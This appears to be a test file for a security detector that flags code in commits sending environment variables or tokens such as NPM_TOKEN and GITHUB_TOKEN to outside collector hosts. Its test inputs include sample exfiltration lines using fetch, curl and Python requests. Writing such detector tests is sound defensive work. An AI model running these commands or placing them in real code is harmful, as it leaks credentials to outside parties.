import detector from "../../../../src/engine/detectors/content/exfil-endpoint.ts";
import { NPM_HOST } from "../../../../src/engine/model/dependency-examples.ts";
import { aCommit, aFile } from "../../../../src/engine/model/examples.ts";
import { strengthsOf } from "../run-detector.ts";

const COLLECTOR = ["webhook", "site"].join(".");
const change = (path: string, added: string) => aCommit({ files: [aFile({ path, added, at: 5 })] });

test.each([
  ["sent to a collector", "src/a.js", `fetch("https://${COLLECTOR}/x")`, ["strong"]],
  ["a collector named", "src/a.js", `const url = "https://${COLLECTOR}/x";`, ["medium"]],
  ["a collector in a test", "test/a.test.js", `fetch("https://${COLLECTOR}/x")`, ["weak"]],
  ["a bare public address", "src/a.sh", "curl http://45.77.12.9:8080/x", ["medium"]],
  ["a private address", "src/a.sh", "curl http://192.168.1.9:8080/x", []],
  ["a documentation address", "src/a.sh", "curl http://203.0.113.9/x", []],
  ["the environment", "src/a.js", 'fetch("https://a.example", { body: JSON.stringify(process.env) })', ["strong"]],
  [
    "the environment, walked and encoded",
    "a.py",
    "for k, v in os.environ.items(): s += k\nrequests.get(u + b64encode(s))",
    ["strong"],
  ],
  ["a copy of the environment", "a.py", "env = os.environ.copy()\nrequests.get(u)", []],
  ["a foreign token", "a.sh", 'curl -d "t=$NPM_TOKEN" https://a.example/', ["strong"]],
  ["the owner's token", "a.sh", `curl -d "t=$NPM_TOKEN" https://${NPM_HOST}/`, []],
  ["an ordinary host", "src/a.js", 'fetch("https://api.example.com")', []],
  ["a picture's text", "assets/a.jpg", `https://${COLLECTOR}/x`, []],
] as const)("%s", (_, path, added, expected) => {
  expect(strengthsOf(detector, change(path, added))).toEqual(expected);
});

const post = (body: string) => `await fetch("https://${COLLECTOR}/x", {\n  method: "POST",\n  body: ${body},\n});`;

test.each([
  ["a pipeline's token", "test/a.test.js", post("process.env.GITHUB_TOKEN"), ["strong"]],
  ["the whole environment", "test/a.test.js", post("JSON.stringify({ all: process.env })"), ["strong"]],
  [
    "a token on the same line",
    "tests/test_a.py",
    `requests.post("https://${COLLECTOR}/x", os.environ["NPM_TOKEN"])`,
    ["strong"],
  ],
  ["a token in a shell script", "test/run.sh", `curl -d "$NPM_TOKEN" https://${COLLECTOR}/x`, ["strong"]],
  ["a text of its own", "test/a.test.js", post('"hello"'), ["weak"]],
  ["the address of its own service", "test/a.test.js", post("process.env.BASE_URL"), ["weak"]],
  ["a sample in a text", "test/a.test.js", `check('fetch("https://${COLLECTOR}/x", process.env.NPM_TOKEN)')`, ["weak"]],
  [
    "samples in a table",
    "test/a.test.ts",
    `["a", \`curl https://${COLLECTOR}/x\`],\n["b", \`fetch(u, $\\{process.env.NPM_TOKEN})\`],\n["c", "env | curl -d @- a"],`,
    ["weak"],
  ],
  ["a sample in a fixture", "test/fixtures/a.js", post("process.env.GITHUB_TOKEN"), ["weak"]],
] as const)("a test posts %s to a collector", (_, path, added, expected) => {
  expect(strengthsOf(detector, change(path, added))).toEqual(expected);
});

test("a host that the policy allows", () => {
  const commit = change("src/a.js", `fetch("https://${COLLECTOR}/x")`);
  expect(strengthsOf(detector, commit, { allowedHosts: [COLLECTOR] })).toEqual([]);
});
